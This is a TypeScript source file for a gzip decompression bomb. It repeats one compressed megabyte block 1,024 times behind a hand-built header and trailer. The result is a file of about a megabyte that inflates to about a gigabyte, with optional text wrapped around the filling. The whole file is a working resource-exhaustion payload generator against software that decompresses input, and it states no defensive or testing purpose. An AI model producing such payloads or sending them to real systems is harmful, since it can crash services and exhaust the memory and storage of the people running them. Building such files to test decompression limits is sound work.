/** A gigabyte of one thing in a gzip file of a megabyte: made from one block that is repeated, so in no time. */
import { constants, crc32, deflateRawSync } from 'node:zlib';

const MEGABYTE = 1024 * 1024;
const BLOCKS = 1024;

/** `before` and `after` are what stands around the filling. */
export function gzipBomb(before: string, filler: string, after: string): Blob {
  const block = Buffer.from(filler.repeat(Math.floor(MEGABYTE / Buffer.byteLength(filler))));
  // Flushed fully, a run of blocks stands for itself wherever it is put (RFC 1951 §2).
  const flushed = (bytes: Buffer) =>
    new Uint8Array(deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH, level: 9 }));
  const [start, end] = [Buffer.from(before), Buffer.from(after)];
  const filling = flushed(block);
  let checksum = crc32(start);
  for (let nth = 0; nth < BLOCKS; nth += 1) checksum = crc32(block, checksum);
  const trailer = new DataView(new ArrayBuffer(8));
  trailer.setUint32(0, crc32(end, checksum), true);
  trailer.setUint32(4, start.length + block.length * BLOCKS + end.length, true);
  const header = new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
  const last = new Uint8Array(deflateRawSync(end));
  return new Blob([header, flushed(start), ...Array.from({ length: BLOCKS }, () => filling), last, trailer]);
}
